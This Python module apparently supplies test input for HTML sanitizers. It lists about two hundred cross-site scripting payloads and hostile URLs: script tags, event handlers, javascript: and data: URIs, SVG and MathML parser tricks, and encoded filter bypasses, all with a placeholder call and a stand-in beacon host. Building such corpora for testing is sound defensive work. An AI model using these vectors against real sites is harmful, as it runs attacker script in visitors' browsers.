"""Markup that has run a script in some browser, or got through a cleaner. ``RUN`` is what runs, ``AT`` a beacon."""

from __future__ import annotations

RUN, AT = "ran(1)", "//beacon.example/x"

# As they are written in HTML; each runs, or has run, by itself, when pointed at, or when followed.
MARKUP = (
    r"""
<script>RUN</script>
<SCRIPT SRC=AT></SCRIPT>
<script/src=AT></script>
<script>RUN
<scr<script>ipt>RUN</scr</script>ipt>
<script type=module>RUN</script>
<script x>RUN</script x>
<script ~~~>RUN</script ~~~>
<script><!--RUN</script>
<script>/*<script>*/RUN</script>
<<script>RUN//<</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
--><script>RUN</script>
]]><script>RUN</script>
"><script>RUN</script>
'><script>RUN</script>
" onmouseover="RUN" x="
' onmouseover='RUN' x='
` onmouseover=`RUN` x=`
<img src=x onerror=RUN>
<img src=x onerror="RUN"
<img/src=x/onerror=RUN>
<img src=x:x onerror=RUN>
<IMG """
    + '"' * 3
    + r"""><SCRIPT>RUN</SCRIPT>">
<img src=`x` onerror=RUN>
<img src=x onerror=&#114;an(1)>
<img src=x onerror=&#x72;&#x61;&#x6e;&#40;1&#41;>
<img src=x onerror=\u0072an(1)>
<img src=x onerror="window['r'+'an'](1)">
<img srcset=x onerror=RUN>
<img src="javascript:RUN">
<img lowsrc="javascript:RUN">
<img dynsrc="javascript:RUN">
<img src=AT>
<image src=x onerror=RUN>
<picture><source srcset=x onerror=RUN><img onerror=RUN src=x></picture>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script>&#114;an(1)</script></svg>
<svg><script href="data:text/javascript,RUN"/></svg>
<svg><script xlink:href="data:text/javascript,RUN"></script></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><a href="javascript:RUN"><rect width=99 height=99 /></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set attributeName=href to="javascript:RUN"/></svg>
<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>x</text></a></svg>
<svg><foreignObject><iframe onload=RUN></foreignObject></svg>
<svg><foreignObject><body onload=RUN></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x"/></svg>
<svg><image href=x onerror=RUN></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<svg></p><style><a id="</style><img src=x onerror=RUN>"></svg>
<svg><p><style><a title="</style><img src=x onerror=RUN>"></p></svg>
<svg><![CDATA[><img src=x onerror=RUN>]]></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>
<math><mi xlink:href="javascript:RUN">x</mi></math>
<math href="javascript:RUN">x</math>
<math><maction actiontype="statusline#x" xlink:href="javascript:RUN">x</maction></math>
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;"></table></mtext></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>
<math><annotation-xml encoding="text/html"><script>RUN</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<form><input name=attributes><img src=x onerror=RUN></form>
<form action="javascript:RUN"><input type=submit></form>
<form><button formaction="javascript:RUN">x</button></form>
<form><input type=image src=x onerror=RUN formaction="javascript:RUN"></form>
<button form=x formaction="javascript:RUN">x</button><form id=x>
<isindex action="javascript:RUN" type=image>
<input autofocus onfocus=RUN>
<input type=image src=x onerror=RUN>
<select autofocus onfocus=RUN></select>
<select><template><img src=x onerror=RUN></template></select>
<select><style></select><img src=x onerror=RUN></style>
<textarea autofocus onfocus=RUN></textarea>
<textarea><img src=x onerror=RUN></textarea>
<keygen autofocus onfocus=RUN>
<details open ontoggle=RUN>
<dialog open onclose=RUN><button autofocus onfocus=RUN>x</button></dialog>
<video><source onerror=RUN></video>
<video src=x onerror=RUN></video>
<video poster="javascript:RUN"></video>
<audio src=x onerror=RUN></audio>
<body onload=RUN>
<body onpageshow=RUN>
<body background="javascript:RUN">
<BODY ONLOAD=RUN>
<html onmouseover=RUN>
<frameset onload=RUN><frame src=x></frameset>
<frameset><frame src="javascript:RUN"></frameset>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>
<iframe/onload=RUN>
<iframe src=AT></iframe>
<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>
<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>
<object data="javascript:RUN"></object>
<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+"></object>
<object><param name=src value="javascript:RUN"></object>
<embed src="javascript:RUN">
<embed src=AT>
<applet code="javascript:RUN" codebase=AT></applet>
<marquee onstart=RUN>x</marquee>
<marquee loop=1 width=0 onfinish=RUN>x</marquee>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=AT">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">
<meta http-equiv="Set-Cookie" content="a=RUN">
<link rel=stylesheet href=AT>
<link rel=prefetch href=AT>
<link rel=import href=AT>
<link rel=stylesheet href="data:text/css,*{background:url(AT)}">
<base href="javascript:RUN//">
<base href=AT><a href=x>x</a>
<style>@import 'AT';</style>
<style>*{background:url(AT)}</style>
<style><img src="</style><img src=x onerror=RUN>">
<style>x{animation:y}@keyframes y{}</style><b style="animation-name:y" onanimationstart=RUN>x</b>
<b style="background:url(AT)">x</b>
<b style="background:url('javascript:RUN')">x</b>
<b style="width:expression(RUN)">x</b>
<b style="-moz-binding:url(AT)">x</b>
<b style="behavior:url(AT)">x</b>
<div onmouseover=RUN>x</div>
<div onmouseover='RUN'>x</div>
<div onmouseover
=RUN>x</div>
<div/onmouseover/=RUN>x</div>
<div onpointerenter=RUN>x</div>
<div tabindex=1 autofocus onfocus=RUN>x</div>
<div contenteditable autofocus onfocus=RUN>x</div>
<div style=overflow:scroll onscroll=RUN>x</div>
<div onwheel=RUN oncopy=RUN onclick=RUN>x</div>
<x onclick=RUN>x</x>
<x-y onmouseover=RUN>x</x-y>
<a-b:c onmouseover=RUN>x</a-b:c>
<xss id=x tabindex=1 onactivate=RUN onfocus=RUN autofocus></xss>
<a href="javascript:RUN">x</a>
<a href="JaVaScRiPt:RUN">x</a>
<a href=" javascript:RUN">x</a>
<a href="&#1;javascript:RUN">x</a>
<a href="java&#9;script:RUN">x</a>
<a href="java&#10;script:RUN">x</a>
<a href="java&Tab;script&colon;RUN">x</a>
<a href="java&NewLine;script:RUN">x</a>
<a href="&#106;avascript:RUN">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN">x</a>
<a href="javascript&#9;:RUN">x</a>
<a href="javascript://%0aRUN">x</a>
<a href="vbscript:RUN">x</a>
<a href="data:text/html,<script>RUN</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=">x</a>
<a href="blob:RUN">x</a>
<a href=x onclick=RUN>x</a>
<a href=x onmouseover=RUN target=_blank>x</a>
<a ping=AT href=x>x</a>
<area href="javascript:RUN">
<map name=x><area shape=rect coords=0,0,99,99 href="javascript:RUN"></map><img usemap=#x>
<table background="javascript:RUN"><td background="javascript:RUN">x</table>
<table><td onmouseover=RUN>x
<bgsound src="javascript:RUN">
<layer src=AT></layer>
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<noscript><img src=x onerror=RUN></noscript>
<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>
<template><img src=x onerror=RUN></template>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
<plaintext><img src=x onerror=RUN>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<title><img src=x onerror=RUN></title>
<!--><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN> -->
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<![CDATA[<img src=x onerror=RUN>]]>
<?xml-stylesheet href="javascript:RUN"?><img src=x onerror=RUN>
<!DOCTYPE x [<!ENTITY a "<img src=x onerror=RUN>">]>&a;
<p title="<img src=x onerror=RUN>">x
&lt;script&gt;RUN&lt;/script&gt;
&lt;img src=x onerror=RUN&gt;
&amp;lt;img src=x onerror=RUN&amp;gt;
&#60;img src=x onerror=RUN&#62;
&#x3c;img src=x onerror=RUN&#x3e;
&#0000060img src=x onerror=RUN>
&LT;img src=x onerror=RUN&GT;
+ADw-script+AD4-RUN+ADw-/script+AD4-
\x3cimg src=x onerror=RUN\x3e
\u003cimg src=x onerror=RUN\u003e
＜img src=x onerror=RUN＞
<img\x00 src=x onerror=RUN>
{{constructor.constructor('RUN')()}}
${RUN}
<li {{x}}={{x}} onmouseover=RUN>x
"""
)

LINKS = r"""
javascript:RUN
JAVASCRIPT:RUN
java	script:RUN
javascript&#58;RUN
&#1;javascript:RUN
//javascript:RUN
javascript://site.example/%0aRUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=
vbscript:RUN
view-source:javascript:RUN
blob:https://site.example/RUN
feed:javascript:RUN
jar:https://site.example/!/RUN
https://site.example/" onmouseover="RUN
https://site.example/'onmouseover='RUN
https://site.example/><script>RUN</script>
https://site.example/"><img src=x onerror=RUN>
https://javascript:RUN@site.example/
https://site.example/#javascript:RUN
https:javascript:RUN
http:\\site.example\" onclick="RUN
"""


def _lines(text: str) -> list[str]:
    return [line.replace("RUN", RUN).replace("AT", AT) for line in text.strip().split("\n")]


def markup() -> list[str]:
    """Each payload; one that goes over two lines is a line break within a tag, and joined again."""
    joined = MARKUP.replace("onmouseover\n=", "onmouseover&&=")
    return [line.replace("&&=", "\n=").replace("\\x00", "\x00") for line in _lines(joined)]


def links() -> list[str]:
    return _lines(LINKS)
